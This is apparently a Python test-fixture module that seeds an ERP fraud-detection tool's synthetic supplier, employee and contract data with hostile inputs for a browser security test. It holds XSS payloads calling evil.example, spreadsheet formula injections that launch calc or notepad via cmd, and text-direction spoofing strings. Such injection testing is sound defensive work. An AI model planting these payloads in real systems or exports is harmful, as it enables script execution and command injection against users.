"""A hostile extract: the generator's data contract with HTML, script and spreadsheet formulas written
into the names, addresses, item descriptions and ids that suppliers and staff type into an ERP.

:func:`write_hostile_extract` writes ``sunlight generate``'s folder and then rewrites it: the
suppliers, employees and persons that the generator planted in schemes (so detectors flag them and
their names reach the queue, the case pages, the graphs and the exports) get the names of
:data:`PAYLOADS`; addresses and item descriptions carry more; one supplier's *id* becomes markup in
every file that names it. Each script payload, if it ever ran, would open a dialog, change
``document.title`` to :data:`PWNED`, set ``window.__pwned`` and ask ``evil.example`` for something —
each of which the browser test watches for. Case notes with the same payloads are added once the
store exists (:data:`NOTE_PAYLOADS`).
"""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

PWNED = "PWNED"
_RUN = f"document.title='{PWNED}';window.__pwned=1;fetch('http://evil.example/x');alert(1)"
#: A name 10,000 characters long (of a real-looking company, so detectors treat it as a name).
LONG_NAME = "超长名称有限公司" * 1250
#: Text that a spreadsheet would run as a formula, as a supplier may type it.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
#: Names as a hostile supplier or a careless clerk might enter them.
PAYLOADS = (
    f"<script>{_RUN}</script>华信科技",
    f'<img src=x onerror="{_RUN}">恒达贸易',
    f"javascript:{_RUN}//",
    f'"><svg onload="{_RUN}">宏远建设',
    f"' onmouseover='{_RUN}' x='诚信物资",
    f"</script><script>{_RUN}</script>天成电子",
    f'<a href="javascript:{_RUN}">点我</a>安达工程',
    f"[点击](javascript:{_RUN}) **粗体** :red[红字] $x^2$ 汇丰",
    '<iframe src="http://evil.example/"></iframe><style>body{display:none}</style>光明科技',
    "\u202egnp.exe司公限有技科\u202c 方向覆盖",
    "华\u200b信\u200d科\u2060技\ufeff零宽",
    LONG_NAME,
    *FORMULAS,
)
#: The id that one supplier gets instead of its own, in every file.
HOSTILE_ID = f'V9"><img src=x onerror="{_RUN}">'
NOTE_PAYLOADS = (
    f"核查意见：<script>{_RUN}</script>",
    f'<img src=x onerror="{_RUN}"> 已约谈',
    '=HYPERLINK("http://evil.example/","报告")',
)


def _rows(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        reader = csv.DictReader(handle)
        return list(reader.fieldnames or []), list(reader)


def _write(path: Path, fields: list[str], rows: list[dict[str, str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=fields)
        writer.writeheader()
        writer.writerows(rows)


def write_hostile_extract(folder: Path, scale: int = 500, seed: int = 7) -> dict[str, str]:
    """Write the hostile extract into ``folder``; returns which entity got which payload (``supplier:ID``
    -> name), for the tests to look for."""
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "sunlight.cli",
            "generate",
            "--out",
            str(folder),
            "--scale",
            str(scale),
            "--seed",
            str(seed),
        ],
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    if done.returncode != 0:
        raise RuntimeError(done.stderr)
    _, labels = _rows(folder / "labels.csv")
    planted: dict[str, list[str]] = {}
    for row in labels:
        if not row["scheme"].startswith("decoy"):
            planted.setdefault(row["entity_type"], [])
            if row["entity_id"] not in planted[row["entity_type"]]:
                planted[row["entity_type"]].append(row["entity_id"])
    given: dict[str, str] = {}

    def rename(file: str, key: str, kind: str, payloads: tuple[str, ...], also: str | None = None) -> None:
        fields, rows = _rows(folder / file)
        targets = planted.get(kind, [])
        by_id = {r[key]: r for r in rows}
        for entity_id, payload in zip([t for t in targets if t in by_id], payloads, strict=False):
            by_id[entity_id]["name"] = payload
            given[f"{kind}:{entity_id}"] = payload
            if also:
                by_id[entity_id][also] = payloads[(payloads.index(payload) + 1) % len(payloads)]
        _write(folder / file, fields, rows)

    rename("suppliers.csv", "supplier_id", "supplier", PAYLOADS, also="address")
    rename("employees.csv", "employee_id", "employee", PAYLOADS[::-1], also="address")
    rename("persons.csv", "person_id", "person", PAYLOADS[3:])
    # item descriptions of planted contracts
    fields, rows = _rows(folder / "contracts.csv")
    contracts = set(planted.get("contract", []))
    for n, row in enumerate(r for r in rows if r["contract_id"] in contracts):
        row["item"] = PAYLOADS[n % len(PAYLOADS)][:2000]
    _write(folder / "contracts.csv", fields, rows)
    # one supplier's id becomes markup wherever it appears
    victim = next(s for s in planted.get("supplier", []) if f"supplier:{s}" not in given)
    for file in ("suppliers.csv", "contracts.csv", "bids.csv", "relations.csv"):
        fields, rows = _rows(folder / file)
        for row in rows:
            for column in ("supplier_id", "src_id", "dst_id"):
                if row.get(column) == victim:
                    row[column] = HOSTILE_ID
        _write(folder / file, fields, rows)
    given[f"supplier:{HOSTILE_ID}"] = "(hostile id)"
    return given
